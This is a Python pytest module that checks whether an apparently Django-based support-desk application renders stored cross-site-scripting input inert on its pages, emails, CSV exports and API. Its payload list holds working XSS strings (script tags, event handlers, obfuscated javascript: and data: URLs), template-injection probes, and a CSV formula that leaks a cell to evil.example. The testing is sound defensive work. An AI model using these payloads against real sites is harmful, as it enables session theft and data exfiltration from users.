"""Stored XSS: hostile text put wherever a user (or an admin) can type renders inert on every
surface that shows it: pages, fragments, the wizard, emails, CSV exports and the API.

Each payload ends with a marker (`xss07`), so a surface is counted for a payload only when the
payload really reached it. A page is inert when it holds no script but ours, no event handler
attribute, no javascript:/data: URL and no frame, object, embed, style or MathML element.
"""

from __future__ import annotations

import csv
import io
import re
from collections import defaultdict
from collections.abc import Callable, Iterable
from dataclasses import dataclass, field
from html.parser import HTMLParser
from typing import Any

import pytest
from django.core import mail
from django.core.cache import cache
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from supportdesk.cases.actions import add_comment
from supportdesk.cases.models import Case
from supportdesk.cases.services import create_upload, submit_case
from supportdesk.catalog.models import RequestType
from supportdesk.lists.models import ListView
from supportdesk.markup import render_markdown
from supportdesk.people.models import Membership, Team
from supportdesk.records.models import Kind, Record
from tests.api.conftest import TokenClient, make_token
from tests.factories import MembershipFactory, RecordFactory, UserFactory
from tests.notify.conftest import run_tasks
from tests.web.conftest import start_wizard, step

pytestmark = pytest.mark.django_db

PAYLOADS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](javascript:alert(1))",
    '<a href="javascript:alert(1)">x</a>',
    "<iframe src=javascript:alert(1)>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "[<img src=x onerror=alert(1)>](http://x)",
    "<<script>script>alert(1)<</script>/script>",
    '<a href="&#106;avascript:alert(1)">x</a>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "{{ 7*7 }}",
    "{% debug %}",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "[x](javascript&#58;alert(1))",
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#x0A;script:alert(1)">x</a>',
    "[x](\njavascript:alert(1))",
    "<javascript:alert(1)>",
    '[x](http://x "a>@hal <img src=x onerror=alert(1)>")',
)
TEMPLATE_EVALUATED = re.compile(r"\b49 xss\d\d|sql_queries|<module '")
FORBIDDEN_TAGS = {"iframe", "frame", "frameset", "object", "embed", "applet", "base", "style"}
FORBIDDEN_TAGS |= {"math", "mglyph", "mtext"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "poster", "data", "srcset"}
DANGEROUS_SCHEMES = ("javascript:", "data:", "vbscript:")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?\d+(\.\d+)?%?")
ALL_COLUMNS = ["number", "subject", "team", "request_type", "requester", "record", "account"]
ALL_COLUMNS += ["owner", "status", "priority", "created_at"]


def hostile(i: int) -> str:
    return f"{PAYLOADS[i]} {marker(i)}"


def marker(i: int) -> str:
    return f"xss{i:02d}"


class InertCheck(HTMLParser):
    """Everything in a document that could run script."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: value or "" for name, value in attrs}
        ours = values.get("src", "").startswith("/static/")
        if tag == "script" and not ours and values.get("type") != "application/json":
            self.problems.append(f"<script> not ours: {attrs}")
        if tag in FORBIDDEN_TAGS:
            self.problems.append(f"<{tag}> {attrs}")
        for name, value in values.items():
            if name.startswith(("on", "hx-on")):
                self.problems.append(f"<{tag} {name}={value!r}>")
            url = re.sub(r"[\x00-\x20]", "", value).lower()
            if name in URL_ATTRIBUTES and url.startswith(DANGEROUS_SCHEMES):
                self.problems.append(f"<{tag} {name}={value!r}>")

    handle_startendtag = handle_starttag


def problems_in(html: str) -> list[str]:
    checker = InertCheck()
    checker.feed(html)
    checker.close()
    return checker.problems


@dataclass
class Tally:
    """Which payloads reached which surface (each checked inert)."""

    seen: dict[str, set[int]] = field(default_factory=lambda: defaultdict(set))

    def _reached(self, surface: str, text: str) -> None:
        assert not TEMPLATE_EVALUATED.search(text), f"{surface}: a template tag ran"
        self.seen[surface] |= {i for i in range(len(PAYLOADS)) if marker(i) in text}

    def html(self, surface: str, html: str) -> None:
        assert problems_in(html) == [], f"{surface}: {problems_in(html)}"
        self._reached(surface, html)

    def page(self, surface: str, response: Any) -> None:
        assert response.status_code == 200, (surface, response.status_code)
        assert response["Content-Type"].startswith("text/html"), surface
        self.html(surface, response.content.decode())

    def text(self, surface: str, text: str) -> None:
        self._reached(surface, text)

    def json(self, surface: str, response: Any) -> Any:
        assert response.status_code == 200, (surface, response.status_code)
        assert response["Content-Type"].split(";")[0] == "application/json", surface
        assert response.get("X-Content-Type-Options") == "nosniff", surface
        self._reached(surface, response.content.decode("unicode_escape"))
        return response.json()

    def csv(self, surface: str, response: Any) -> None:
        assert response.status_code == 200, (surface, response.status_code)
        body = b"".join(response.streaming_content) if response.streaming else response.content
        text = body.decode("utf-8-sig")
        for row in csv.reader(io.StringIO(text)):
            for cell in row:
                formula = cell.startswith(FORMULA_START) and not NUMBER.fullmatch(cell)
                assert not formula, f"{surface}: formula cell {cell!r}"
        self._reached(surface, text)

    @property
    def total(self) -> int:
        return sum(len(found) for found in self.seen.values())


@dataclass
class World:
    admin: Any
    agent: Any
    requesters: list[Any]
    teams: list[Team]
    request_types: list[RequestType]
    records: list[Record]
    cases: list[Case]
    views: list[ListView]


def logged_in(user: Any) -> Client:
    client = Client()
    client.force_login(user)
    return client


def pdf(name: str) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, b"%PDF-1.4 hostile", content_type="application/pdf")


def admin_made_request_type(admin_api: TokenClient, i: int) -> tuple[Team, RequestType]:
    response = admin_api.post_json("/api/v1/teams", {"name": hostile(i), "description": hostile(i)})
    assert response.status_code == 201, response.content
    fields = [
        {"name": "summary", "label": hostile(i), "type": "text", "help": hostile(i)},
        {"name": "notes", "label": "Notes", "type": "long_text"},
    ]
    body = {
        "team": hostile(i),
        "kind": "opportunity",
        "name": hostile(i),
        "display_name": hostile(i),
        "description": hostile(i),
        "fields": fields,
    }
    response = admin_api.post_json("/api/v1/catalog/request-types", body)
    assert response.status_code == 201, response.content
    return Team.objects.get(name=hostile(i)), RequestType.objects.get(pk=response.json()["id"])


@pytest.fixture
def world(admin_user) -> World:
    """One requester, team, request type, record, case and list view per payload."""
    admin_api = TokenClient(make_token(admin_user))
    agent = UserFactory(username="hal", first_name="Hal", last_name="Agent")
    agent_api = TokenClient(make_token(agent))
    made = World(admin_user, agent, [], [], [], [], [], [])
    for i in range(len(PAYLOADS)):
        team_, request_type = admin_made_request_type(admin_api, i)
        MembershipFactory(user=agent, team=team_, role=Membership.Role.LEAD)
        made.teams.append(team_)
        made.request_types.append(request_type)
    cache.clear()  # the agent's teams, cached as they were before the memberships
    for i, request_type in enumerate(made.request_types):
        requester = UserFactory(username=f"hostile{i}", first_name=PAYLOADS[i], last_name=marker(i))
        account = RecordFactory(kind=Kind.CUSTOMER_ACCOUNT, owner=requester, name=hostile(i))
        record = RecordFactory(owner=requester, name=hostile(i), account=account)
        upload = create_upload(requester, file=pdf(f"{hostile(i)}.pdf"))
        case = submit_case(
            requester,
            record=record,
            request_type=request_type,
            description=hostile(i),
            answers={"summary": hostile(i), "notes": hostile(i)},
            attachment_ids=[str(upload.id)],
        ).case
        add_comment(case, author=agent, body=hostile(i))
        add_comment(case, author=agent, body=hostile(i), internal=True)
        add_comment(case, author=requester, body=f"{hostile(i)} @hal")
        ask = {"question": hostile(i), "fields": ["summary", "notes"]}
        assert agent_api.post_json(f"/api/v1/cases/{case.number}/take", {}).status_code == 200
        response = agent_api.post_json(f"/api/v1/cases/{case.number}/ask", ask)
        assert response.status_code == 200, response.content
        view = {"name": hostile(i)[-100:], "columns": ALL_COLUMNS, "visibility": "private"}
        response = agent_api.post_json("/api/v1/views", view)
        assert response.status_code == 201, response.content
        made.requesters.append(requester)
        made.records.append(record)
        made.cases.append(case)
        made.views.append(ListView.objects.get(pk=response.json()["id"]))
    return made


def each_page(tally: Tally, surface: str, client: Client, urls: Iterable[str], **headers) -> None:
    for url in urls:
        tally.page(surface, client.get(url, **headers))


def check_case_pages(tally: Tally, world: World) -> None:
    agent = logged_in(world.agent)
    urls = [case.get_absolute_url() for case in world.cases]
    for requester, url in zip(world.requesters, urls, strict=True):
        tally.page("case page (requester)", logged_in(requester).get(url))
    each_page(tally, "case page (agent, internal notes)", agent, urls)
    each_page(tally, "case page (agent, cached fragments)", agent, urls)
    each_page(
        tally, "feed fragment (htmx)", agent, [f"{u}?feed=1" for u in urls], HTTP_HX_REQUEST="true"
    )
    for i, case in enumerate(world.cases):
        url = reverse("cases:mention_suggest", args=[case.number])
        tally.page("mention suggestions", agent.get(url, {"q": marker(i)}))
        file = case.attachments.get()
        download = agent.get(reverse("cases:attachment", args=[case.number, file.pk]))
        assert download["Content-Disposition"].startswith("attachment;"), file.name
        assert download["X-Content-Type-Options"] == "nosniff"
        assert not download["Content-Type"].startswith("text/html")
    edit_forms = [reverse("cases:edit", args=[case.number]) for case in world.cases]
    each_page(tally, "edit form (htmx)", agent, edit_forms, HTTP_HX_REQUEST="true")


def check_lists_and_search(tally: Tally, world: World) -> None:
    agent = logged_in(world.agent)
    tally.page("list view (saved, all columns)", agent.get("/cases/", {"view": world.views[0].pk}))
    for i in range(len(PAYLOADS)):
        params = {"view": world.views[0].pk, "f": "1", "q": marker(i)}
        tally.page("search results", agent.get("/cases/", params))
    tally.csv("CSV export", agent.get("/cases/export.csv", {"view": world.views[0].pk}))
    admin = logged_in(world.admin)
    tally.page("records list", admin.get(reverse("records:list")))
    urls = [reverse("records:detail", args=[record.pk]) for record in world.records]
    each_page(tally, "record page", admin, urls)


def check_notifications_and_dashboards(tally: Tally, world: World) -> None:
    for user in [*world.requesters, world.agent]:
        client = logged_in(user)
        tally.page("notifications list", client.get(reverse("notify:list")))
        tally.page("notifications bell", client.get(reverse("notify:bell"), HTTP_HX_REQUEST="true"))
    agent, admin = logged_in(world.agent), logged_in(world.admin)
    for client, name in ((agent, "my-work"), (agent, "team"), (admin, "operations")):
        url = reverse("reports:dashboard", args=[name])
        tally.page("dashboards", client.get(url))
        tally.csv("dashboard CSV", client.get(url, {"format": "csv"}))
    for requester in world.requesters:
        page = logged_in(requester).get(reverse("reports:dashboard", args=["my-requests"]))
        tally.page("dashboards", page)


def check_wizard(tally: Tally, world: World) -> None:
    for i, requester in enumerate(world.requesters):
        client = logged_in(requester)
        draft = start_wizard(client, world.records[i])
        tally.page("wizard team step", client.get(step(draft, "team")))
        client.post(step(draft, "team"), {"team": world.teams[i].pk})
        tally.page("wizard type step", client.get(step(draft, "type")))
        choice = {"choice": str(world.request_types[i].pk), "action": "next"}
        assert client.post(step(draft, "type"), choice).status_code == 302
        tally.page("wizard details step", client.get(step(draft, "details")))
        answers = {"details-summary": hostile(i), "details-notes": hostile(i)}
        details = {"description": hostile(i), "priority": "medium", "action": "next", **answers}
        details["attachments"] = pdf(f"{hostile(i)}.pdf")
        assert client.post(step(draft, "details"), details).status_code == 302
        tally.page("wizard review step", client.get(step(draft, "review")))


def check_emails(tally: Tally) -> None:
    run_tasks()
    assert mail.outbox, "the cases and comments sent no email"
    for message in mail.outbox:
        tally.text("email text part", f"{message.subject}\n{message.body}")
        for content, mimetype in message.alternatives:
            assert mimetype == "text/html"
            tally.html("email html part", content)


def check_api(tally: Tally, world: World) -> None:
    api = TokenClient(make_token(world.agent))
    for i, case in enumerate(world.cases):
        body = tally.json("API case", api.get(f"/api/v1/cases/{case.number}"))
        assert body["description"] == hostile(i)  # data, kept as typed
        assert body["details"]["summary"] == hostile(i)
        tally.json("API feed", api.get(f"/api/v1/cases/{case.number}/events"))
    tally.json("API list views", api.get("/api/v1/views"))
    tally.json("API catalog", api.get("/api/v1/catalog", {"kind": "opportunity"}))


def test_hostile_input_renders_inert_on_every_surface(world, capsys):
    tally = Tally()
    checks: list[Callable[[], None]] = [
        lambda: check_case_pages(tally, world),
        lambda: check_lists_and_search(tally, world),
        lambda: check_notifications_and_dashboards(tally, world),
        lambda: check_wizard(tally, world),
        lambda: check_emails(tally),
        lambda: check_api(tally, world),
    ]
    for check in checks:
        check()
    for surface in ("case page (requester)", "case page (agent, internal notes)"):
        assert tally.seen[surface] == set(range(len(PAYLOADS))), surface
    assert tally.seen["wizard review step"] == set(range(len(PAYLOADS)))
    with capsys.disabled():
        reached = [surface for surface, found in tally.seen.items() if found]
        print(
            f"\nstored XSS: {len(PAYLOADS)} payloads, {len(reached)} surfaces, "
            f"{tally.total} payload × surface pairs rendered inert"
        )
        for surface, found in sorted(tally.seen.items()):
            print(f"  {surface}: {len(found)}/{len(PAYLOADS)}")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_markdown_of_each_payload_is_inert(payload):
    html = render_markdown(payload)
    assert problems_in(html) == []
    assert "<img" not in html and "<script" not in html and "<svg" not in html


RAW_HTML = [p for p in PAYLOADS if p.lstrip("\"'").startswith("<") and "<javascript:" not in p]


@pytest.mark.parametrize("payload", RAW_HTML)
def test_the_check_finds_each_html_payload_left_raw(payload):
    """The inertness check is not vacuous: each raw HTML payload fails it."""
    assert problems_in(f"<p>{payload}</p>") != []
